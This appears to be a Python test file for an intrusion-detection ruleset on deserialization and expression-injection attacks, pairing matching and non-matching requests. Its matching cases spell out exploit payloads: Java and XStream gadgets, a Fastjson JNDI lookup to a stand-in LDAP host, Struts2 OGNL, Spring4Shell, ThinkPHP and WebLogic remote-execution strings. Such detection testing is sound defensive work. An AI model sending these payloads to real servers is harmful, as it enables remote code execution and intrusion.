"""Cases of deserialization.rules."""

from urllib.parse import quote

from cases import get, many, post, speech, web
from packets import Dice
from protocols import base64, response

ERROR = response("500 Internal Server Error", "error")
JAVA = b"\xac\xed\x00\x05"


def sent(body, kind="application/json", target="/api/query", headers=()):
    """A body that the server refuses."""
    return web((post(target, body, kind, headers), ERROR))


def asked(target, headers=()):
    """A request that the server refuses."""
    return web((get(target, headers), ERROR))


def cookie(length):
    """A Shiro cookie of that many bytes before base64."""
    return [("Cookie", "rememberMe=" + base64(Dice("shiro", length).bytes(length)))]


def cases(theme):
    """All cases."""
    hit, miss = theme.hit, theme.miss
    gadget = (
        JAVA
        + b"sr\x00\x11java.util.HashSet\xbaD\x85\x95\x96\xb8\xb74\x03\0\0xpw\x0c\0\0\0\x02?@\0\0\0\0\0\x01sr\x004org.apache.commons.collections.keyvalue.TiedMapEntry"
    )
    hit(9000301, "object as the body", sent(gadget, "application/octet-stream", "/invoker/readonly"))
    miss(
        9000301,
        "other binary data with the mark inside",
        sent(b"\0\0\0\x10" + JAVA, "application/octet-stream", "/invoker/data"),
    )
    hit(
        9000302,
        "gadget in a form",
        sent("state=" + quote(base64(gadget), safe=""), "application/x-www-form-urlencoded"),
    )
    miss(
        9000302,
        "an honest view state",
        sent(
            "state=" + quote(base64(JAVA + b"sr\x00\x11java.util.HashMap" + bytes(60)), safe=""),
            "application/x-www-form-urlencoded",
        ),
    )
    hit(9000303, "cookie of 2,048 bytes", asked("/login", cookie(2048)))
    miss(9000303, "cookie of 384 bytes", asked("/login", cookie(384)))
    refused = response(
        body="login",
        headers=[
            ("Set-Cookie", "rememberMe=deleteMe; Path=/; Max-Age=0; Expires=Sun, 01-Nov-2026 02:00:00 GMT")
        ],
    )
    hit(9000304, "12 refused cookies in a minute", many((get("/", cookie(384)), refused), 12, 3_000_000))
    miss(9000304, "3 refused cookies", many((get("/", cookie(384)), refused), 3, 3_000_000))
    hit(
        9000305,
        "row set that looks a name up",
        sent(
            '{"a":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://203.0.113.9/a","autoCommit":true}}'
        ),
    )
    miss(9000305, "a type of the application", sent('{"@type":"cn.example.office.Leave","days":2}'))
    builder = '<soapenv:Envelope><soapenv:Header><work:WorkContext><java><object class="java.lang.ProcessBuilder"/></java></work:WorkContext></soapenv:Header></soapenv:Envelope>'
    hit(9000306, "program in a work context", sent(builder, "text/xml", "/wls-wsat/CoordinatorPortType"))
    miss(
        9000306,
        "an honest message",
        sent(
            "<soapenv:Envelope><soapenv:Body/></soapenv:Envelope>",
            "text/xml",
            "/wls-wsat/CoordinatorPortType",
        ),
    )
    hello, welcome = (
        b"t3 12.2.1\nAS:255\nHL:19\nMS:10000000\n\n",
        b"HELO:12.2.1.3.0.false\nAS:2048\nHL:19\nMS:10000000\n\n",
    )
    hit(
        9000307,
        "object after the greeting",
        speech(7001, hello, welcome, b"\0\0\x05\xbe\x01\x65\x01" + bytes(60) + gadget, b"\0\0\0\x10error"),
    )
    miss(9000307, "greeting alone", speech(7001, hello, welcome))
    miss(9000307, "object without a greeting", speech(7002, b"\0\0\x05\xbe\x01\x65\x01" + bytes(60) + gadget))
    ognl = "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}"
    hit(9000308, "expression as content type", asked("/index.action", [("Content-Type", ognl)]))
    miss(
        9000308,
        "a form's content type",
        asked("/index.action", [("Content-Type", "multipart/form-data; boundary={ognl}")]),
    )
    hit(
        9000309,
        "expression after redirect",
        asked("/login.action?redirect:${%23_memberAccess%3D%40ognl.OgnlContext%40DEFAULT_MEMBER_ACCESS}"),
    )
    miss(9000309, "a fragment of that name", asked("/doc?anchor=%23_memberAccess"))
    hit(
        9000310,
        "expression in a form",
        sent(
            "id=" + quote("%{@java.lang.Runtime@getRuntime().exec('id')}"),
            "application/x-www-form-urlencoded",
        ),
    )
    miss(
        9000310,
        "Java's own words in a form",
        sent("id=" + quote("java.lang.Runtime.getRuntime()"), "application/x-www-form-urlencoded"),
    )
    hit(
        9000311,
        "log valve",
        sent(
            "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp",
            "application/x-www-form-urlencoded",
        ),
    )
    miss(
        9000311,
        "another nested property",
        sent("class.module.name=one&pipeline.first=2", "application/x-www-form-urlencoded"),
    )
    hit(
        9000312,
        "any function",
        asked(
            "/index.php?s=index/think%5Capp/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=1"
        ),
    )
    miss(9000312, "an action of the application", asked("/index.php?s=index/invokefunctions&function=list"))
    hit(
        9000313,
        "constructor with a filter",
        sent(
            "_method=__construct&filter[]=system&method=get&get[]=id",
            "application/x-www-form-urlencoded",
            "/index.php?s=captcha",
        ),
    )
    miss(
        9000313,
        "an overridden method",
        sent("_method=put&filter[]=system-news", "application/x-www-form-urlencoded", "/index.php?s=list"),
    )
    hit(
        9000314,
        "object of a framework",
        sent(
            "data=" + quote('O:26:"think\\process\\pipes\\Windows":1:{s:5:"files";a:0:{}}'),
            "application/x-www-form-urlencoded",
        ),
    )
    miss(
        9000314,
        "an array",
        sent(
            "data=" + quote('a:1:{s:5:"files";O:8:"stdClass":1:{s:1:"a";i:1;}}'),
            "application/x-www-form-urlencoded",
        ),
    )
    call = (
        b"\x50"
        + JAVA
        + b"w\x22"
        + bytes(34)
        + b"sr\x00\x2esun.reflect.annotation.AnnotationInvocationHandler"
    )
    accepted = b"N\0\x0b198.18.0.99\0\0\xa0\x00"
    hit(
        9000315,
        "call with an object",
        speech(1099, b"JRMI\0\x02K", accepted, b"\0\x0a10.66.0.99\0\0\0\0" + call, b"Q" + JAVA),
    )
    miss(9000315, "greeting alone", speech(1099, b"JRMI\0\x02K", accepted))
    handler = (
        '<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder">'
        "<command><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>"
    )
    hit(9000316, "handler that starts a program", sent(handler, "application/xml"))
    miss(
        9000316,
        "an honest object",
        sent('<person><handler class="java.beans.PropertyEditor"/></person>', "application/xml"),
    )
